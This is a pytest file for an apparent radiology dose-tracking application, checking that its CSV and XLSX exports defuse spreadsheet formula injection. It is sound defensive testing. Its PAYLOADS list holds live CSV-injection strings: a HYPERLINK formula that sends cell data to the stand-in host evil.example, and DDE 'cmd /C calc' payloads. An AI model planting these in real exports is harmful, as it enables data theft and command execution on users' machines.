"""No export carries a live formula: a device name, an analysis or an outcome starting with
``=``, ``+``, ``-``, ``@`` (or a tab or carriage return) is written as text in every XLSX
(exams, patients to follow up, the IRSN evaluation file) and prefixed with a quote in every CSV
(the same, the NRD year summary, the charts' data, the CLI's CSV). Numbers stay numbers."""

from __future__ import annotations

import csv
import io
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from typer.testing import CliRunner

from kerma.spreadsheet import csv_cell, is_formula_like
from kerma.web.accounts.models import Unit
from kerma.web.accounts.roles import ADMINISTRATOR, PHYSICIST
from kerma.web.dose.models import Device, Event, Exam
from kerma.web.followup.models import Alert
from kerma.web.nrd.exports import write_csv, write_xlsx
from kerma.web.nrd.services import add_mapping, run_evaluation, save_evaluation
from users import role_user

pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:No directory at")]

# One payload per character a spreadsheet reads as the start of a formula.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Salle")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ACT = "RX-THORAX-PA"
XLSX_FORMULA = "f"  # openpyxl's data type of a formula cell


def _as_read_back(payload: str) -> str:
    """XML (hence XLSX) reads a carriage return back as a line feed."""
    return payload.replace("\r", "\n")


def test_the_rule_of_a_cell():
    for payload in PAYLOADS:
        assert is_formula_like(payload) and csv_cell(payload) == "'" + payload
    for number in (-1.5, 2, "-1.5", "+3", "-0,25", "-1.5e-05", "12"):
        assert csv_cell(number) == number and not is_formula_like(number)
    for text in ("Salle 1", "", None, "a=b", "1-2 rue"):
        assert csv_cell(text) == text


@pytest.fixture
def scene():
    """Units "north" with one chest room per payload (named by it), exams in January 2024, a
    draft evaluation whose analysis is a payload, alerts whose outcome is one."""
    north = Unit.objects.create(code="north", name="Imagerie Nord")
    add_mapping(by="test", pattern="THORAX FACE", act_code=ACT, kind="exact", refresh=False)
    devices = []
    for i, payload in enumerate(PAYLOADS):
        device = Device.objects.create(
            identity_key=f"rx{i}", model=f"RX{i}", category="radiography", unit=north,
            display_name=payload, station_name=payload,
        )
        devices.append(device)
        for k in range(3):
            exam = Exam.objects.create(
                study_uid=f"1.2.{i}.{k}", study_date=date(2024, 1, 3 + k), modality="DX",
                device=device, procedure="THORAX FACE", age_years=50.0, sex="F",
                weight_kg=70.0, height_m=1.75, dap_total_gycm2=0.1 + 0.01 * k,
                kar_total_mgy=6000.0, patient_key=f"{i:0>64}",
            )
            Event.objects.create(exam=exam, uid=f"ev.{i}.{k}", kind="projection",
                                 protocol=payload, dap_gycm2=exam.dap_total_gycm2)
        Alert(exam=exam, patient_key=exam.patient_key, scope="procedure", quantity="kar",
              value=6000.0, threshold=5000.0, outcome=payload).save()
    # A negative value is a number, not a text, in every export.
    Exam.objects.create(study_uid="1.2.neg", study_date=date(2024, 1, 9), modality="DX",
                        device=devices[0], procedure="AUTRE", dap_total_gycm2=-0.25)
    run = run_evaluation(devices[0], ACT, population="adult",
                         period_from=date(2024, 1, 1), period_to=date(2024, 12, 31))
    evaluation = save_evaluation(run, by="phys")
    evaluation.analysis = PAYLOADS[0]
    evaluation.justification = PAYLOADS[2]
    evaluation.save()
    return {"unit": north, "devices": devices, "evaluation": evaluation}


@pytest.fixture
def client_in(client, scene):
    client.force_login(role_user("phys", PHYSICIST, [scene["unit"]]))
    return client


def _csv_cells(text: str, delimiter: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


def _streamed(response) -> str:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return body.decode("utf-8-sig")


def _assert_csv_neutral(cells: list[str]) -> None:
    """Every payload is there, quoted; no cell starts a formula."""
    for payload in PAYLOADS:
        assert "'" + payload in cells, payload
    assert not [c for c in cells if is_formula_like(c)]


def _assert_xlsx_neutral(data: bytes) -> list:
    """No cell of any sheet is a formula; returns every cell of every sheet."""
    book = load_workbook(io.BytesIO(data))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == XLSX_FORMULA]
    return cells


def test_exam_export_csv_and_xlsx(client_in):
    csv_text = _streamed(client_in.get(reverse("exam_list"), {"export": "csv"}))
    cells = _csv_cells(csv_text, ";")
    _assert_csv_neutral(cells)
    assert "-0.25" in cells  # the negative number as a number
    response = client_in.get(reverse("exam_list"), {"export": "xlsx"})
    cells = _assert_xlsx_neutral(_streamed_bytes(response))
    values = [c.value for c in cells]
    for payload in PAYLOADS:
        assert _as_read_back(payload) in values
    assert -0.25 in values  # a number cell, not text


def _streamed_bytes(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def test_followup_patients_csv_and_xlsx(client_in):
    url = reverse("followup_patients")
    _assert_csv_neutral(_csv_cells(_streamed(client_in.get(url, {"format": "csv"})), ";"))
    cells = _assert_xlsx_neutral(_streamed_bytes(client_in.get(url, {"format": "xlsx"})))
    values = [c.value for c in cells]
    for payload in PAYLOADS:
        assert _as_read_back(payload) in values  # outcome and device name, as text


def test_irsn_evaluation_files(scene, tmp_path):
    evaluation = scene["evaluation"]
    selected = list(evaluation.selected)
    assert len(selected) == 3
    for i, item in enumerate(selected):  # text cells of the per-patient rows
        item["study_uid"], item["event_uid"] = PAYLOADS[i], PAYLOADS[i + 3]
    evaluation.selected = selected
    evaluation.save()
    written = write_csv(evaluation, tmp_path / "e.csv").read_bytes().decode("utf-8-sig")
    cells = _csv_cells(written, ",")
    _assert_csv_neutral(cells)
    data = write_xlsx(evaluation, tmp_path / "e.xlsx").read_bytes()
    values = [c.value for c in _assert_xlsx_neutral(data)]
    for payload in PAYLOADS:  # the analysis, the justification, the rows: as text
        assert _as_read_back(payload) in values


def test_nrd_year_summary_csv(client_in, scene):
    response = client_in.get(reverse("nrd_year_report_csv", args=[2024]))
    cells = _csv_cells(_streamed(response), ";")
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[2] in cells
    assert not [c for c in cells if is_formula_like(c)]


def test_charts_csv(client, scene):
    client.force_login(role_user("admin", ADMINISTRATOR, [scene["unit"]]))
    response = client.get(
        reverse("charts_data", args=["devices"]),
        {"from": "2024-01-01", "to": "2024-03-31", "act": ACT, "format": "csv"},
    )
    _assert_csv_neutral(_csv_cells(_streamed(response), ","))


def test_cli_csv_outputs(scene, monkeypatch):
    import kerma.web.bootstrap as bootstrap
    from kerma.cli.main import app

    monkeypatch.setattr(bootstrap, "_ready", True)
    runner = CliRunner()
    exams = runner.invoke(app, ["exams", "--format", "csv"])
    assert exams.exit_code == 0, exams.output
    cells = _csv_cells(exams.stdout, ",")
    _assert_csv_neutral(cells)
    patients = runner.invoke(app, ["followup", "list", "--state", "all", "--format", "csv"])
    assert patients.exit_code == 0, patients.output
    _assert_csv_neutral(_csv_cells(patients.stdout, ","))
